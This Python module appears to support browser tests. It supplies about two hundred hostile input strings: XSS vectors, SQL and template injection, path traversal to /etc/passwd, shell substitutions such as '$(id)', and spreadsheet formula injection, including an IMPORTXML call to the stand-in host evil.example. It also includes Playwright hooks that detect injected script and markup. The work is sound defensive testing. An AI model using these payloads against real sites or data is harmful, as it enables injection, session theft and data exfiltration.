"""Two hundred texts that would run, break out, or mislead if any page took words for anything but words,
and what a browser has to say about a page that shows them.

Each script calls `owned()`, which `watch` defines; the Content-Security-Policy is watched as well, since a
script that it stopped has got into the page all the same.
"""

from collections.abc import Iterator
from itertools import product

from playwright.sync_api import Page

_ELEMENTS = (
    "<script>owned()</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>owned()</scr</script>ipt>",
    "<script type=module>owned()</script>",
    "<script\n>owned()</script\t>",
    "<img src=x onerror=owned()>",
    "<img/src/onerror=owned()>",
    "<IMG SRC=x OnErRoR=owned()>",
    "<img src='x' onerror='&#111;wned()'>",
    "<svg onload=owned()>",
    "<svg/onload=owned()//",
    "<svg><script>owned()</script></svg>",
    "<svg><animate onbegin=owned() attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:owned()><text y=9>x</text></a></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.owned()</script>'></iframe></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=owned()></svg>#x'></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=owned()>'>",
    "<iframe src=javascript:owned()></iframe>",
    "<iframe srcdoc='<script>parent.owned()</script>'></iframe>",
    "<object data=javascript:owned()></object>",
    "<embed src=javascript:owned()>",
    "<body onload=owned()>",
    "<details open ontoggle=owned()>x</details>",
    "<input autofocus onfocus=owned()>",
    "<video><source onerror=owned()></video>",
    "<audio src=x onerror=owned()>",
    "<marquee onstart=owned()>x</marquee>",
    "<style>@import 'javascript:owned()';</style>",
    "<style>*{background:url(javascript:owned())}</style>",
    "<link rel=stylesheet href=javascript:owned()>",
    "<meta http-equiv=refresh content='0;url=javascript:owned()'>",
    "<base href='javascript:owned()//'>",
    "<form action=javascript:owned()><button autofocus>x</button></form>",
    "<button formaction=javascript:owned() type=submit>x</button>",
    "<template><script>owned()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=owned()>'></p></noscript>",
    "<textarea></textarea><script>owned()</script>",
    "<title></title><script>owned()</script>",
    "<!--><script>owned()</script-->",
    "<![CDATA[<script>owned()</script>]]>",
    "<?xml version='1.0'?><x onload='owned()'/>",
    "<div style=behavior:url(owned())>x</div>",
    "<x onclick=owned() tabindex=1>x</x>",
    "<x contenteditable onblur=owned()>x</x>",
    "<a href='java&#10;script:owned()'>x</a>",
    "<a href=javascript:owned()>x</a>",
)
_BREAKOUTS = ("\"'><", "'>", '">', "</script>", "</textarea>", "</title>", "-->", "]]>", "`", "\\u003c")
_PAYLOADS = (
    "<script>owned()</script>",
    "<img src=x onerror=owned()>",
    " onmouseover=owned() x=",
    "<svg onload=owned()>",
)
_EXPRESSIONS = (
    "javascript:owned()",
    "JaVaScRiPt:owned()",
    "java\tscript:owned()",
    "vbscript:owned()",
    "data:text/html,<script>owned()</script>",
    "data:text/html;base64,PHNjcmlwdD5vd25lZCgpPC9zY3JpcHQ+",
    "//evil.example/%0d%0aSet-Cookie:x=1",
    "\r\nSet-Cookie: lang=en\r\n\r\n<script>owned()</script>",
    "https://evil.example/?<script>owned()</script>",
    "');owned();//",
    '");owned();//',
    "`;owned();//",
    "${owned()}",
    "${alert`1`}",
    "{{owned()}}",
    "{{7*7}}",
    "{{constructor.constructor('owned()')()}}",
    "{{ self.__init__.__globals__ }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{% include '/etc/passwd' %}",
    "{%raw%}{{",
    "{#",
    "#{owned()}",
    "<%= owned() %>",
    "<?php owned(); ?>",
    "{0.__class__}",
    "{count|one|many}",
    "{name}",
    "%s%n%x",
    "$& $1 $` $'",
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    '{"__proto__": {"owned": true}}',
    "'; DROP TABLE incidents; --",
    "1 OR 1=1",
    "\\'; SELECT pg_sleep(9); --",
    "../../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "| id",
    "$(id)",
    "`id`",
    "&lt;script&gt;owned()&lt;/script&gt;",
    "&#60;script&#62;owned()&#60;/script&#62;",
    "%3Cscript%3Eowned()%3C/script%3E",
    "\\x3cscript\\x3eowned()\\x3c/script\\x3e",
    "+ADw-script+AD4-owned()+ADw-/script+AD4-",
    "＜script＞owned()＜/script＞",
    "<ſcript>owned()</ſcript>",
    "￼<script>owned()</script>",
)
_SHEETS = (
    "=1+1",
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("javascript:owned()","x")',
    '=IMPORTXML(CONCAT("//evil.example/",A1),"//a")',
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
    '","=1+1',
    '"\n=1+1',
)
_LETTERS = (
    "\x00<script>owned()</script>",
    "<scr\x00ipt>owned()</scr\x00ipt>",
    "a\x00b",
    "\x01\x02\x07\x08\x0b\x0c\x1b[31m赤",
    "\x7f\x85\x9f",
    "\u202egnp.exe<script>owned()</script>",
    "\u202e逆さ\u202c",
    "\u2066\u2067\u2068\u2069",
    "مرحبا <b onclick=owned()>שלום</b>",
    "\u200b\u200c\u200d\ufeff",
    "\u2028owned()\u2029owned()",
    "\ufffe\uffff",
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!͖̬̰̙̗̿̋ͥͥ̂ͣ̐́́͜͞",
    "👩\u200d👩\u200d👧\u200d👦<img src=x onerror=owned()>",
    "𠮷野家<script>owned()</script>",
    "か\u3099き\u309a",
    "ﷺ" * 20,
    "<" * 200,
    "&" * 200,
    "長" * 600,
    "<img src=x onerror=owned()>" * 20,
)


def _made() -> Iterator[str]:
    yield from _ELEMENTS
    yield from (out + load for out, load in product(_BREAKOUTS, _PAYLOADS))
    yield from _EXPRESSIONS
    yield from _SHEETS
    yield from _LETTERS
    # The same again where a place's name or a quantity would stand in a report.
    yield from (f"松永町{element}付近" for element in _ELEMENTS)


STRINGS = tuple(dict.fromkeys(_made()))[:200]

WATCH = """
window.__owned = [];
window.owned = () => { window.__owned.push(new Error().stack); };
document.addEventListener('securitypolicyviolation', event =>
  window.__owned.push(`${event.violatedDirective} ${event.blockedURI} ${event.sample}`));
"""
# Whatever is in the page that none of our templates and modules puts there.
FOREIGN = """() => [...document.querySelectorAll('*')].filter(e =>
  [...e.attributes].some(a => /^on/i.test(a.name) || /^\\s*(java|vb)\\s*script:/i.test(a.value))
  || e.matches('iframe, object, embed, base, style, math, marquee, video, audio, template')
  || e.matches('foreignObject, animate')
  || e.matches('script') && !(e.getAttribute('src') ?? '').startsWith('/static/')
  || e.matches('link') && !(e.getAttribute('href') ?? '').startsWith('/static/')
  || e.matches('form') && !['', '/signin'].includes(e.getAttribute('action') ?? '')
  || e.matches('meta[http-equiv]')).map(e => e.outerHTML.slice(0, 160))"""


def watch(page: Page, caught: list[str]) -> None:
    """From now on whatever opens a dialog in `page` is put into `caught`, and `findings` sees the rest."""
    page.add_init_script(WATCH)

    def close(dialog: object) -> None:
        caught.append(f"dialog {dialog.message}")  # type: ignore[attr-defined]
        dialog.dismiss()  # type: ignore[attr-defined]

    page.on("dialog", close)


def findings(page: Page) -> list[str]:
    """What ran, what was stopped, and what stands in the page that is not ours; empty is as it should be."""
    ran: list[str] = page.evaluate("window.__owned")
    return [*ran, *page.evaluate(FOREIGN)]
